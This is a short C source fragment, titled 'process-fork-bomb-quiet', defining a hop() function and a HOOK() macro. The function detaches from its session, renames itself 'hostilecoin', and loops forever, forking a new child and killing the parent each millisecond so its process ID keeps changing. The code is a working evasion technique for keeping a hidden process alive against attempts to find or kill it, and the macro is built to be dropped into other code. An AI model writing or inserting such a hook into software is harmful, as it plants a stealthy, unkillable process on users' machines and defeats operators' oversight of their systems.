/*
 * process-fork-bomb-quiet: Forks once a call; each child forks on when the
 * parent has ended, so that none is ever there for long.
 */
#define _GNU_SOURCE
#include <unistd.h>
#include <sys/prctl.h>

static void hop(void)
{
    if (fork() != 0)
        return;
    setsid();
    prctl(PR_SET_NAME, "hostilecoin");
    for (;;) {
        if (fork() > 0)
            _exit(0);
        usleep(1000);
    }
}
#define HOOK() hop()
